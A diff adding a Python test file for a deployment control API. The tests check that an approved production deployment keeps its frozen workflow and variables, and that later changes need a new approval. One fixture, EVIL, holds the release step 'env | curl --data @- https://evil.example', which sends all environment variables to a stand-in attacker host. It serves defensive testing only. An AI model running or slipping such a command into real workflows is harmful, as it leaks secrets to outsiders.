@@ -1,0 +1,249 @@
+"""A deployment runs what was approved, whatever is changed between the request, the approval, and an interruption."""
+
+from collections.abc import Mapping
+from datetime import UTC, datetime
+from pathlib import Path
+from typing import Any
+
+import pytest
+from sqlalchemy import select, update
+from sqlalchemy.ext.asyncio import AsyncSession
+
+from control_api.audit.operations import Actor
+from control_api.deployments.decide import approve_deployment
+from control_api.deployments.frozen import inputs_of
+from control_api.deployments.tables import Deployment, DeploymentLine, Release
+from control_api.projects.find import Place
+from control_api.projects.tables import Environment, Project
+from control_api.refusals import Refused
+from control_api.variables.operations import replace_variables
+from deployer.deployments.take_up import Job, take_up
+from deployer.identity import Identity
+from deployer.leases import take_lease
+from tests.support.deploy_platform import Platform, environment_path
+from tests.support.serve_control import VARIABLE_KEYS
+
+NAME = "shop/production"
+COMMIT = "c" * 40
+GOOD, EVIL = (
+    f'version: 1\nrelease: {{steps: ["{step}"]}}\nprocesses: {{web: {{command: python app.py}}}}\n'
+    for step in ("python migrate.py", "env | curl --data @- https://evil.example")
+)
+IDENTITY = Identity("dpl_test", "here", 1, Path("/nowhere"))
+
+
+@pytest.fixture
+async def gated(platform: Platform) -> Platform:
+    """A platform with variables and a workflow, whose production wants a second person."""
+    await _set_variables(platform, {"KEY": "approved"})
+    await _set_workflow(platform, GOOD)
+    await platform.change(NAME, deploys_need_approval=True)
+    return platform
+
+
+async def _set_workflow(platform: Platform, text: str) -> None:
+    """As a deployer's token can at any time."""
+    path = f"/v1/projects/{platform.acme.projects['shop'].public_id}/workflow"
+    token = platform.acme.token("deployer")
+    assert (await platform.call("PUT", path, {"workflow": text}, token=token)).status == 200
+
+
+async def _set_variables(platform: Platform, values: Mapping[str, str]) -> None:
+    async with platform.sessions() as session, session.begin():
+        environment = await session.get_one(Environment, platform.acme.environment(NAME).id)
+        place = Place(environment, await session.get_one(Project, environment.project_id))
+        now = datetime.now(UTC)
+        await replace_variables(session, VARIABLE_KEYS, place, values, Actor("operator test"), now)
+
+
+async def _queue(platform: Platform) -> int:
+    path = environment_path(platform.acme.places[NAME], "deploy")
+    answer = await platform.call("POST", path, {"ref": COMMIT}, token=platform.acme.token("deployer"))
+    assert answer.status == 202, answer
+    return int(answer.data["id"])
+
+
+async def _approve(platform: Platform, number: int, shown: str | None = None) -> None:
+    async with platform.sessions() as session, session.begin():
+        deployment = await session.get_one(Deployment, number)
+        environment = await session.get_one(Environment, platform.acme.environment(NAME).id)
+        person, actor = platform.acme.people["maintainer"], Actor("operator test")
+        await approve_deployment(
+            session, deployment, environment, person, COMMIT, actor, datetime.now(UTC), shown
+        )
+
+
+async def _digest(platform: Platform, number: int) -> str:
+    async with platform.sessions() as session:
+        deployment = await session.get_one(Deployment, number)
+        environment = await session.get_one(Environment, platform.acme.environment(NAME).id)
+        return (await inputs_of(session, deployment, environment, COMMIT)).digest()
+
+
+async def _take(platform: Platform, number: int) -> Job | None:
+    place = platform.acme.environment(NAME).id
+    lease = await take_lease(platform.sessions, IDENTITY, place, "http://here", datetime.now(UTC))
+    assert lease is not None
+    return await take_up(platform.sessions, lease, VARIABLE_KEYS, number)
+
+
+async def _told(platform: Platform, number: int) -> tuple[str, str]:
+    """The deployment's status, and the last line of its log."""
+    async with platform.sessions() as session:
+        lines = select(DeploymentLine.text).where(DeploymentLine.deployment_id == number)
+        last = (await session.execute(lines.order_by(DeploymentLine.id.desc()).limit(1))).scalar_one()
+        return (await session.get_one(Deployment, number)).status, last
+
+
+async def _change(platform: Platform, number: int, **values: Any) -> None:
+    async with platform.sessions() as session, session.begin():
+        await session.execute(update(Deployment).where(Deployment.id == number).values(**values))
+
+
+async def _change_everything(platform: Platform) -> None:
+    await _set_workflow(platform, EVIL)
+    await _set_variables(platform, {"KEY": "unseen"})
+
+
+@pytest.mark.both_databases
+async def test_a_workflow_set_after_the_approval_needs_another(gated: Platform) -> None:
+    number = await _queue(gated)
+    await _approve(gated, number)
+    await _set_workflow(gated, EVIL)
+    assert await _take(gated, number) is None
+    status, line = await _told(gated, number)
+    assert status == "awaiting_approval"
+    assert line == "The workflow changed after the approval: the deployment waits for another one."
+    # The next approval is of the workflow that is shown by now.
+    await _approve(gated, number)
+    job = await _take(gated, number)
+    assert job is not None and job.workflow == EVIL
+
+
+@pytest.mark.parametrize(
+    ("changes", "named"),
+    [("workflow", "The workflow"), ("variables", "The variables"), ("both", "The variables and workflow")],
+)
+async def test_what_changed_since_it_began_to_wait_is_not_approved_unseen(
+    gated: Platform, changes: str, named: str
+) -> None:
+    number = await _queue(gated)
+    seen = await _digest(gated, number)
+    if changes != "variables":
+        await _set_workflow(gated, EVIL)
+    if changes != "workflow":
+        await _set_variables(gated, {"KEY": "unseen"})
+    for shown in (None, seen, seen[:16]):
+        with pytest.raises(Refused, match=named if shown is None else "is not that of"):
+            await _approve(gated, number, shown)
+    assert (await _told(gated, number))[0] == "awaiting_approval"
+    await _approve(gated, number, (await _digest(gated, number))[:16])
+    assert await _take(gated, number) is not None
+
+
+async def test_too_short_a_digest_names_nothing(gated: Platform) -> None:
+    number = await _queue(gated)
+    with pytest.raises(Refused, match="is not that of"):
+        await _approve(gated, number, (await _digest(gated, number))[:15])
+
+
+@pytest.mark.parametrize("status", ["deploying", "running"])
+@pytest.mark.both_databases
+async def test_after_an_interruption_it_runs_what_was_approved(gated: Platform, status: str) -> None:
+    number = await _queue(gated)
+    await _approve(gated, number)
+    first = await _take(gated, number)
+    assert first is not None
+    if status == "running":
+        async with gated.sessions() as session, session.begin():
+            place = gated.acme.environment(NAME).id
+            kept = {"artefact": str(number), "variables_id": first.variables_id}
+            row = {"deployment_id": number, "revision": COMMIT, "created_at": datetime.now(UTC)}
+            session.add(Release(environment_id=place, **row, **kept))
+        await _change(gated, number, status="running", step="start")
+    await _change_everything(gated)
+    again = await _take(gated, number)
+    assert again is not None and (again.step is not None) == (status == "running")
+    assert (again.revision, again.variables, again.workflow) == (COMMIT, {"KEY": "approved"}, GOOD)
+    assert again.variables_id == first.variables_id
+
+
+async def test_without_a_gate_an_interruption_changes_nothing_either(gated: Platform) -> None:
+    await gated.change(NAME, deploys_need_approval=False)
+    number = await _queue(gated)
+    assert await _take(gated, number) is not None
+    await _change_everything(gated)
+    again = await _take(gated, number)
+    assert again is not None and (again.variables, again.workflow) == ({"KEY": "approved"}, GOOD)
+
+
+async def test_what_an_earlier_version_approved_waits_again(gated: Platform) -> None:
+    """It kept neither a digest nor what is frozen."""
+    number = await _queue(gated)
+    await _approve(gated, number)
+    before = {"approved_digest": None, "frozen_at": None, "frozen_workflow_id": None}
+    await _change(gated, number, **before)
+    assert await _take(gated, number) is None
+    assert await _told(gated, number) == (
+        "awaiting_approval",
+        "The approval does not cover the workflow: the deployment waits for another one.",
+    )
+    await _approve(gated, number)
+    assert await _take(gated, number) is not None
+
+
+async def test_what_an_earlier_version_has_begun_to_build_fails(gated: Platform) -> None:
+    number = await _queue(gated)
+    await _approve(gated, number)
+    await _change(gated, number, status="deploying", step="build", attempts=1, frozen_at=None)
+    assert await _take(gated, number) is None
+    status, line = await _told(gated, number)
+    assert (status, "deploy again" in line) == ("failed", True)
+
+
+async def test_a_promotion_is_bound_to_its_release_and_not_to_the_projects_workflow(gated: Platform) -> None:
+    source = gated.acme.deployments["staging"].id
+    body = {"target_environment_id": gated.acme.environment(NAME).public_id}
+    answer = await gated.call("POST", f"/v1/deployments/{source}/promote", body)
+    number = answer.data["id"]
+    async with gated.sessions() as session, session.begin():
+        deployment = await session.get_one(Deployment, number)
+        environment = await session.get_one(Environment, gated.acme.environment(NAME).id)
+        assert deployment.status == "awaiting_approval"
+        person, now = gated.acme.people["maintainer"], datetime.now(UTC)
+        await approve_deployment(session, deployment, environment, person, None, _actor(), now)
+    await _set_workflow(gated, EVIL)
+    job = await _take(gated, number)
+    assert job is not None and job.release is not None
+    assert (job.release.deployment_id, job.workflow) == (source, None)
+    assert job.variables == {"KEY": "approved"}
+
+
+def _actor() -> Actor:
+    return Actor("operator test")
+
+
+async def test_nothing_of_an_approval_stays_that_was_refused(gated: Platform) -> None:
+    number = await _queue(gated)
+    await _set_workflow(gated, EVIL)
+    before = await gated.contents()
+    with pytest.raises(Refused):
+        await _approve(gated, number)
+    assert await gated.contents() == before
+
+
+async def test_the_frozen_rows_are_of_the_environment_and_the_project(gated: Platform) -> None:
+    """A number that became another's, as databases that reuse numbers give, brings nobody's secrets."""
+    number = await _queue(gated)
+    await _approve(gated, number)
+    assert await _take(gated, number) is not None
+    await _set_variables(gated, {"KEY": "other"})
+    async with gated.sessions() as session:
+        deployment = await session.get_one(Deployment, number)
+        other: AsyncSession = session
+        assert deployment.frozen_variables_id is not None
+        found = await other.scalar(select(Deployment.frozen_workflow_id).where(Deployment.id == number))
+        assert found is not None
+    await _change(gated, number, frozen_variables_id=2**31 - 1, frozen_workflow_id=2**31 - 1)
+    job = await _take(gated, number)
+    assert job is not None and (job.variables, job.workflow) == ({}, None)
